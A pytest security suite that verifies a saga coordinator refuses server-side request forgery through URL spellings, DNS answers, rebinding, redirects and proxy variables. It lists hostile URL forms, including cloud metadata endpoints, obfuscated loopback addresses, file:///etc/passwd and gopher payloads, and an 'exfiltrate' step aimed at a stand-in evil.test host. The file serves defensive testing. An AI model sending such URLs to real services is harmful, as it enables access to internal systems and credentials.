"""SSRF: no URL form, DNS answer, redirect or proxy setting gets the coordinator to the canary.

The canary is a loopback server on a port outside the allowlist; it counts every connection.
Registration refuses what it can see (422); the executor refuses the rest at call time, on the
addresses the host resolved to, and connects only to an address it checked.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from urllib.parse import urlsplit

import httpx
import pytest

from coordinator.core import CallSpec, OutcomeKind, StatusPattern
from coordinator.executor import HttpStepExecutor, TargetPolicy, build_client
from coordinator.executor.transport import POLICY_EXTENSION, Resolver, TargetRefused
from coordinator.ports import OutboundRequest
from coordinator.settings import Settings
from tests.integration.scripted_participant import Reply, ScriptedParticipant
from tests.security.conftest import Canary, Served, one_step, serve_canary, serve_coordinator

CALL = CallSpec(
    method="POST",
    origin="http://127.0.0.1",
    path_template="/",
    success=(StatusPattern("2xx"),),
    retry_on_status=(StatusPattern("5xx"),),
)

ALWAYS_REFUSED_HOSTS = [
    "169.254.169.254",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::1]",
    "[::169.254.169.254]",
    "[fd00:ec2::254]",
    "100.100.100.200",
    "169.254.170.2",
    "metadata.google.internal",
    "metadata",
    "[fe80::1]",
]


def port_of(url: str) -> int:
    port = urlsplit(url).port
    assert port is not None
    return port


def hostile_urls(canary: int, allowed: int, api: int) -> list[str]:
    """Every way we know to write a URL that must not be called with `127.0.0.1:<allowed>` allowed."""
    return [
        *(f"http://{host}/latest/meta-data/" for host in ALWAYS_REFUSED_HOSTS),
        "http://100.64.0.1/",
        f"http://127.1:{canary}/",
        f"http://0x7f.1:{canary}/",
        f"http://0x7f000001:{canary}/",
        f"http://2130706433:{canary}/",
        f"http://017700000001:{canary}/",
        f"http://0177.0.0.1:{canary}/",
        f"http://127.0.0.1.:{canary}/",
        f"http://localhost:{canary}/",
        f"http://localhost.:{canary}/",
        f"http://127.0.0.1:{canary}/",
        f"http://[::1]:{canary}/",
        f"http://[::ffff:127.0.0.1]:{canary}/",
        f"http://0.0.0.0:{canary}/",
        f"http://[::]:{canary}/",
        f"http://127.0.0.1:{allowed + 0}@127.0.0.1:{canary}/",
        f"http://allowed@127.0.0.1:{canary}/",
        f"http://%31%32%37.0.0.1:{canary}/",
        f"http://[fe80::1%25lo]:{canary}/",
        f"http://\u24dbocalhost:{canary}/",
        "http://127.0.0.1:5432/",
        f"http://127.0.0.1:{api}/v1/sagas",
        f"https://127.0.0.1:{canary}/",
        "file:///etc/passwd",
        f"gopher://127.0.0.1:{canary}/_GET",
        f"ftp://127.0.0.1:{canary}/",
        f"//127.0.0.1:{canary}/",
        "{{ input.url }}",
        "http://{{ input.host }}/x",
        "http://127.0.0.1:{{ input.port }}/",
        f"http{{{{ input.s }}}}://127.0.0.1:{canary}/",
        f"http://127.0.0.1:{canary}#@127.0.0.1:{allowed}/",
    ]


@pytest.fixture
async def guarded(db_url: str, participant: ScriptedParticipant) -> AsyncIterator[Served]:
    settings = Settings(database_url=db_url, allowed_targets=(f"127.0.0.1:{port_of(participant.url)}",))
    async with serve_coordinator(settings) as served:
        yield served


async def test_registration_refuses_every_hostile_url_form(
    guarded: Served, participant: ScriptedParticipant, canary: Canary
) -> None:
    urls = hostile_urls(canary.port, port_of(participant.url), port_of(guarded.url))
    for url in urls:
        for where in ("action", "compensation"):
            doc = one_step(f"{participant.url}/ok", compensation=url) if where == "compensation" else one_step(url)
            r = await guarded.api.post("/v1/sagas", json=doc)
            assert r.status_code == 422, (url, r.text)
            assert r.headers["content-type"].startswith("application/problem+json")
            assert f"steps[0].{where}.url" in [e["path"] for e in r.json()["errors"]], (url, r.json())
    assert (await guarded.api.post("/v1/sagas", json=one_step(f"{participant.url}/ok"))).status_code == 201
    assert canary.hits == 0


async def test_without_an_allowlist_metadata_and_odd_spellings_are_still_refused(db_url: str, canary: Canary) -> None:
    refused = [f"http://{host}/" for host in ALWAYS_REFUSED_HOSTS] + [
        f"http://{host}:{canary.port}/"
        for host in ("127.1", "0x7f.1", "2130706433", "0177.0.0.1", "0.0.0.0", "[::]", "[::ffff:0.0.0.0]")
    ]
    async with serve_coordinator(Settings(database_url=db_url)) as served:
        for url in refused:
            r = await served.api.post("/v1/sagas", json=one_step(url))
            assert r.status_code == 422, (url, r.text)
    assert canary.hits == 0


def _request(url: str, **kwargs: object) -> OutboundRequest:
    return OutboundRequest(method="POST", url=url, headers={}, body={"a": 1}, timeout_ms=2000, call=CALL, **kwargs)  # type: ignore[arg-type]


ExecutorFactory = Callable[..., Awaitable[HttpStepExecutor]]


@pytest.fixture
async def make_executor() -> AsyncIterator[ExecutorFactory]:
    clients = []

    async def make(policy: TargetPolicy, resolver: Resolver | None = None) -> HttpStepExecutor:
        client = (
            build_client(max_connections=10)
            if resolver is None
            else build_client(max_connections=10, resolver=resolver)
        )
        clients.append(client)
        return HttpStepExecutor(client, policy=policy)

    yield make
    for client in clients:
        await client.aclose()


async def test_call_time_refuses_every_form_even_if_registration_was_bypassed(
    make_executor: ExecutorFactory, participant: ScriptedParticipant, canary: Canary
) -> None:
    allowed = port_of(participant.url)
    executor = await make_executor(TargetPolicy((f"127.0.0.1:{allowed}",)))
    callable_forms = [u for u in hostile_urls(canary.port, allowed, 1) if "{{" not in u]
    for url in callable_forms:
        outcome = await executor.send(_request(url))
        assert outcome.kind is OutcomeKind.INVALID, (url, outcome)
    open_executor = await make_executor(TargetPolicy())
    for host in [*ALWAYS_REFUSED_HOSTS, "127.1", "0.0.0.0", "[::]", "[::ffff:0:0]"]:
        outcome = await open_executor.send(_request(f"http://{host}:{canary.port}/"))
        assert outcome.kind is OutcomeKind.INVALID and "outbound policy" in (outcome.error or ""), (host, outcome)
    assert canary.hits == 0
    assert (await executor.send(_request(f"{participant.url}/fine"))).kind is OutcomeKind.SUCCESS


def answering(*rounds: list[str]) -> tuple[Resolver, list[str]]:
    """A resolver giving `rounds[0]` at the first lookup, `rounds[1]` at the second, ... (the last repeats)."""
    asked: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return rounds[min(len(asked), len(rounds)) - 1]

    return resolve, asked


@pytest.mark.parametrize(
    "answer",
    [
        ["169.254.169.254"],
        ["::ffff:169.254.169.254"],
        ["64:ff9b::a9fe:a9fe"],
        ["2002:a9fe:a9fe::1"],
        ["fd00:ec2::254"],
        ["0.0.0.0"],
        ["127.0.0.1", "169.254.169.254"],
        ["::ffff:127.0.0.1"],
        ["127.0.0.1"],
        ["not-an-address"],
    ],
)
async def test_dns_answers_are_checked_before_connecting(
    make_executor: ExecutorFactory, canary: Canary, answer: list[str]
) -> None:
    resolver, _ = answering(answer)
    # A wildcard admits public addresses only; an unset allowlist still refuses metadata ones.
    executor = await make_executor(TargetPolicy(("*.evil.test",)), resolver)
    outcome = await executor.send(_request(f"http://a.evil.test:{canary.port}/"))
    assert outcome.kind is OutcomeKind.INVALID and "outbound policy" in (outcome.error or ""), outcome
    if answer != ["127.0.0.1"] and answer != ["::ffff:127.0.0.1"]:
        open_executor = await make_executor(TargetPolicy(), resolver)
        assert (await open_executor.send(_request(f"http://a.evil.test:{canary.port}/"))).kind is OutcomeKind.INVALID
    assert canary.hits == 0


async def test_dns_rebinding_cannot_move_the_connection_after_the_check(
    make_executor: ExecutorFactory, participant: ScriptedParticipant
) -> None:
    port = port_of(participant.url)
    # The canary listens on another loopback address with the participant's port: a client that
    # resolved again after the check would land there.
    async with serve_canary("127.0.0.2", port) as canary:
        resolver, asked = answering(["127.0.0.1"], ["127.0.0.2"])
        policy = TargetPolicy(("*.rebind.test", f"127.0.0.1:{port}"))
        executor = await make_executor(policy, resolver)
        outcome = await executor.send(_request(f"http://svc.rebind.test:{port}/first"))
        assert outcome.kind is OutcomeKind.SUCCESS, outcome
        seen = participant.calls("/first")
        assert len(seen) == 1 and seen[0].headers["host"] == f"svc.rebind.test:{port}"  # Host stays the name
        assert asked == ["svc.rebind.test"]  # resolved once: checked and connected on the same answer
        # A new connection resolves again, and the new answer is checked again (and refused).
        fresh = await make_executor(policy, resolver)
        outcome = await fresh.send(_request(f"http://svc.rebind.test:{port}/second"))
        assert outcome.kind is OutcomeKind.INVALID and "127.0.0.2" in (outcome.error or ""), outcome
        assert canary.hits == 0 and not participant.calls("/second")


async def test_the_transport_checks_ip_literals_itself(canary: Canary) -> None:
    """aiohttp connects to an IP literal without asking the resolver: the transport checks it instead."""
    client = build_client(max_connections=10)
    strict = TargetPolicy(("api.example:443",))
    try:
        for host in ("127.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "127.1", "2130706433"):
            with pytest.raises(TargetRefused):
                await client.get(f"http://{host}:{canary.port}/", extensions={POLICY_EXTENSION: strict})
        # Without the extension, the transport's own policy (open here) applies: loopback is let through.
        assert (await client.get(f"{canary.url}/")).status_code == 200
    finally:
        await client.aclose()
    assert canary.hits == 1


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_redirects_to_the_canary_are_not_followed(
    make_executor: ExecutorFactory, participant: ScriptedParticipant, canary: Canary, status: int
) -> None:
    executor = await make_executor(TargetPolicy((f"127.0.0.1:{port_of(participant.url)}",)))
    participant.on("/moved", Reply(status=status, headers={"Location": f"{canary.url}/stolen"}))
    outcome = await executor.send(_request(f"{participant.url}/moved"))
    assert outcome.kind is OutcomeKind.FATAL and outcome.status_code == status
    assert canary.hits == 0


async def test_proxy_variables_are_ignored(
    make_executor: ExecutorFactory,
    participant: ScriptedParticipant,
    canary: Canary,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.setenv(name, canary.url)
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.delenv("no_proxy", raising=False)
    executor = await make_executor(TargetPolicy())
    outcome = await executor.send(_request(f"{participant.url}/direct"))
    assert outcome.kind is OutcomeKind.SUCCESS and len(participant.calls("/direct")) == 1
    assert canary.hits == 0


async def test_a_violation_at_call_time_fails_the_step_once_and_rolls_back(
    db_url: str, participant: ScriptedParticipant, canary: Canary
) -> None:
    port = port_of(participant.url)
    settings = Settings(database_url=db_url, allowed_targets=(f"127.0.0.1:{port}", "*.evil.test"))
    resolver, asked = answering(["127.0.0.1"])  # a wildcard name that resolves inside: refused
    client = build_client(max_connections=10, resolver=resolver)
    executor = HttpStepExecutor(client, policy=TargetPolicy(settings.allowed_targets))
    doc = {
        "name": "sneaky",
        "steps": [
            {
                "name": "reserve",
                "action": {"method": "POST", "url": f"{participant.url}/reserve"},
                "compensation": {"method": "POST", "url": f"{participant.url}/release"},
            },
            {
                "name": "exfiltrate",
                "action": {"method": "POST", "url": f"http://x.evil.test:{canary.port}/"},
                "retry": {"max_attempts": 5, "initial_interval": "10ms"},
            },
        ],
    }
    try:
        async with serve_coordinator(settings, executor=executor) as served:
            assert (await served.api.post("/v1/sagas", json=doc)).status_code == 201
            r = await served.api.post("/v1/sagas/sneaky/executions", json={"input": {}}, params={"wait": "10s"})
            ex = r.json()
    finally:
        await client.aclose()
    assert ex["status"] == "compensated", ex
    bad = next(s for s in ex["steps"] if s["name"] == "exfiltrate")
    assert bad["attempts"] == 1 and "refused by the outbound policy" in bad["last_error"]
    assert len(participant.calls("/release")) == 1
    assert asked == ["x.evil.test"] and canary.hits == 0


def test_the_guarded_client_still_verifies_tls() -> None:
    """The transport hands aiohttp its own TLS context (the system's trust store): checks stay on."""
    import ssl

    from coordinator.executor.transport import GuardedTransport

    transport = GuardedTransport(limits=httpx.Limits())
    context = transport._tls_context
    assert context.verify_mode is ssl.CERT_REQUIRED and context.check_hostname
